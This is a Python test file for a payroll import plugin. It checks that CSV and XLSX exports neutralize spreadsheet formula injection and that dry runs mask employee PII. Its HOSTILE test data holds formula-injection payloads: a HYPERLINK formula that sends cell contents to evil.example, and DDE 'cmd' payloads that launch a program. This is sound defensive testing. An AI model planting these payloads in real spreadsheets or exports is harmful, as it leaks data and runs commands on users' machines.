"""The import-file target: routes → reverse mapping → CSV / XLSX / JSONL files, formula injection
neutralized (OWASP ASVS 1.2.10), read back with the real csv module and openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from hub.core.config import HubConfig
from hub.core.crypto import KeyRing
from hub.core.delivery import DeliveryRunner, Outbox, attach_routes
from hub.core.models import Application, Compensation, Employee, Money, Offer, Ref
from hub.core.store import Store
from plugins.files.import_target import neutralize, unneutralize

HOSTILE = {  # leading tab and CR are stripped by the canonical model; the unit tests below cover them
    "E1": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
    "E2": "+cmd|' /C calc'!A0",
    "E3": "-2+3",
    "E4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "E5": "\0=1+1",
}


def setup(tmp_path, fmt: str, routes: list[dict], **settings) -> tuple[Store, HubConfig]:
    config = HubConfig.model_validate({
        "connectors": {"payroll_import": {"type": "files_import",
                                          "settings": {"directory": str(tmp_path / "out"), "format": fmt, **settings}}},
        "routes": routes})
    store = Store.open(f"sqlite:///{tmp_path / 'hub.db'}", KeyRing.generate())
    store.upgrade()
    attach_routes(store, config)
    return store, config


def employees() -> list[Employee]:
    pay = Compensation(base=Money(amount="18000.00", currency="CNY"), period="monthly")
    staff = [Employee(external_ids={"hris": number}, employee_number=number, name=f"王{number}", title=text,
                      department="研发部", hire_date=dt.date(2026, 7, 1), compensation=pay)
             for number, text in HOSTILE.items()]
    staff.append(Employee(external_ids={"hris": "E8"}, employee_number="E8", name="李娜", title="工程师", department="研发部"))
    return staff


EMPLOYEE_ROUTE = [{"name": "new-employees-to-payroll", "entity": "employee", "target": "payroll_import"}]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_triggers_are_neutralized_in_spreadsheets(tmp_path, fmt):
    store, config = setup(tmp_path, fmt, EMPLOYEE_ROUTE)
    with store.transaction() as tx:
        store.upsert_many(tx, "hris", employees())
    assert DeliveryRunner(store, config).run().counters == {"payroll_import": {"delivered": 6}}

    [path] = (tmp_path / "out").iterdir()
    assert path.suffix == f".{fmt}"
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.DictReader(handle))
    else:
        sheet = load_workbook(path).active
        values = list(sheet.iter_rows(values_only=True))
        rows = [dict(zip(values[0], row)) for row in values[1:]]
        assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value)
    by_number = {row["工号"]: row for row in rows}
    for number, text in HOSTILE.items():  # CSV: quoted; XLSX: a text cell, as it is (XML 1.0 holds no NUL)
        written = text.replace("\0", "\ufffd") if fmt == "xlsx" else "'" + text
        assert by_number[number]["职位"] == written
    assert (by_number["E8"]["职位"], by_number["E8"]["姓名"], by_number["E1"]["基本工资"]) == ("工程师", "李娜", "18000.00")
    assert by_number["E1"]["计薪周期"] == "月薪" and by_number["E1"]["hub_delivery_key"].startswith("hub-new-employees")
    store.close()


def test_jsonl_keeps_values_as_sent_and_only_accepted_offers_are_written(tmp_path):
    store, config = setup(tmp_path, "jsonl", [{"name": "accepted-offers", "entity": "offer", "target": "payroll_import",
                                               "when": [{"field": "status", "changed_to": "accepted"}]}])
    offers = [Offer(external_ids={"ats": f"o{n}"}, application=Ref(system="ats", external_id=f"a{n}"), status=status,
                    salary_raw="=1+1") for n, status in enumerate(["sent", "accepted", "declined"])]
    with store.transaction() as tx:
        store.upsert_many(tx, "ats", offers)
    assert [e.status for e in Outbox(store).list()] == ["pending"]
    DeliveryRunner(store, config).run()

    [path] = (tmp_path / "out").iterdir()
    [row] = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert (row.get("申请编号"), row["状态"], row["薪资说明"]) == (None, "accepted", "=1+1")  # no payroll id yet
    store.close()


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "\0=1+1", "=1", "+1", "-1", "@A1"])
def test_every_trigger_gets_a_quote(text):
    assert neutralize(text) == "'" + text


@given(st.text(max_size=20))
def test_neutralized_text_never_starts_with_a_trigger_and_reads_back_as_it_was(text):
    cell = neutralize(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))
    assert cell in (text, "'" + text)
    assert unneutralize(cell) == text


def test_a_dry_run_shows_the_import_rows_with_the_person_masked_and_writes_no_file(tmp_path):
    store, config = setup(tmp_path, "csv", EMPLOYEE_ROUTE)
    with store.transaction() as tx:
        store.upsert_many(tx, "hris", employees())
    report = DeliveryRunner(store, config).run(dry_run=True)
    assert report.counters == {"payroll_import": {"planned": 6}}
    by_number = {plan["payload"]["工号"]: plan["payload"] for plan in report.planned}
    assert (by_number["E8"]["姓名"], by_number["E8"]["部门"], by_number["E1"]["基本工资"]) == ("**", "研发部", "****0.00")  # salary is PII too
    assert "李娜" not in json.dumps(report.planned, ensure_ascii=False)
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
    assert [entry.status for entry in Outbox(store).list()] == ["pending"] * 6


def test_without_bookkeeping_columns_a_row_with_no_id_is_refused_naming_the_id_column(tmp_path):
    store, config = setup(tmp_path, "csv", EMPLOYEE_ROUTE, bookkeeping_columns=False)
    nameless = Employee(external_ids={"hris": "X1"}, name="李娜", department="研发部")  # no 工号 to match it by
    with store.transaction() as tx:
        store.upsert_many(tx, "hris", [*employees()[:1], nameless])
    assert DeliveryRunner(store, config).run().counters["payroll_import"] == {"delivered": 1, "dead": 1}

    [dead] = [entry for entry in Outbox(store).list() if entry.status == "dead"]
    assert "matched by its '工号' column" in dead.last_error["reason"] and dead.last_error["field_path"] == "工号"
    assert "李娜" not in json.dumps(dead.last_error, ensure_ascii=False)
    [path] = (tmp_path / "out").iterdir()
    with path.open(encoding="utf-8-sig", newline="") as handle:
        assert next(csv.reader(handle)) == ["工号", "姓名", "部门", "职位", "入职日期", "基本工资", "币种", "计薪周期"]
    store.close()


def test_an_accepted_offer_reaches_payroll_with_its_salary_and_reads_back(tmp_path):
    """The offer row carries 基本工资/币种/计薪周期 with the template's label, its 录用编号 and 申请编号 are the
    hub's ids (payroll holds neither record), and the file reads back into the same offer."""
    store, config = setup(tmp_path, "csv", [{"name": "accepted-offers", "entity": "offer", "target": "payroll_import",
                                             "when": [{"field": "status", "equals": "accepted"}]}])
    pay = Compensation(base=Money(amount="30000.00", currency="CNY"), period="annual")
    with store.transaction() as tx:
        [app_id] = store.upsert_many(tx, "ats", [Application(external_ids={"ats": "a1"}, status="offer",
                                                             candidate=Ref(system="ats", external_id="c1"))]).ids
        [offer_id] = store.upsert_many(tx, "ats", [Offer(external_ids={"ats": "o1"}, status="accepted", compensation=pay,
                                                         application=Ref(system="ats", external_id="a1"))]).ids
    runner = DeliveryRunner(store, config)
    assert runner.run().counters == {"payroll_import": {"delivered": 1}}

    [path] = (tmp_path / "out").iterdir()
    with path.open(encoding="utf-8-sig", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert (row["录用编号"], row["申请编号"]) == (offer_id, app_id)
    assert (row["基本工资"], row["币种"], row["计薪周期"]) == ("30000.00", "CNY", "年薪")
    [(hub_id, read)] = list(runner.targets["payroll_import"].read_back("offer"))
    assert (hub_id, read.compensation, read.status) == (offer_id, pay, "accepted")
    store.close()
